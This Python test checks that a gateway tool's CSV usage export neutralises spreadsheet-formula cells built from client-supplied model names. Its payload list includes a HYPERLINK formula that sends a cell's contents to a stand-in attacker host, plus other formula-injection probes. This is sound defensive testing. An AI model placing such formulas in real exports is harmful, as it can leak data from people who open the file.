"""Issue 19, hole 13 (CSV part): model names come from clients, so `xvckit usage --csv` writes
a cell that starts like a spreadsheet formula with a leading quote (OWASP), on both stores."""

from __future__ import annotations

import asyncio
import csv
import io

import httpx
from typer.testing import CliRunner

from conftest import MASTER_KEY
from test_gateway_e2e import sim_providers
from xvckit.cli import app

FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"open")', "+1+cmd", "-2+3", "@SUM(A1)"]


def test_usage_csv_neutralises_formula_cells(sim, make_gateway, store_url, tmp_path):
    config = sim_providers(sim)
    config["models"].append({"name": "*", "provider": "sim-oa"})
    gw = make_gateway(config, storage_url=store_url)
    for model in [*FORMULAS, "gpt-4o-mini"]:
        httpx.post(
            f"{gw.url}/v1/chat/completions",
            headers={"authorization": f"Bearer {MASTER_KEY}"},
            json={"model": model, "messages": [{"role": "user", "content": "hi"}], "max_tokens": 5},
        )
    asyncio.run_coroutine_threadsafe(gw.gateway.ledger.flush(), gw._loop).result(10)
    path = tmp_path / "xvckit.yaml"
    path.write_text(f"storage:\n  url: {store_url}\n")
    result = CliRunner().invoke(app, ["usage", "--by", "model", "--csv", "--config", str(path)])
    assert result.exit_code == 0, result.output
    cells = {row[0] for row in list(csv.reader(io.StringIO(result.stdout)))[1:]}
    assert {"'" + model for model in FORMULAS} | {"gpt-4o-mini"} <= cells
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
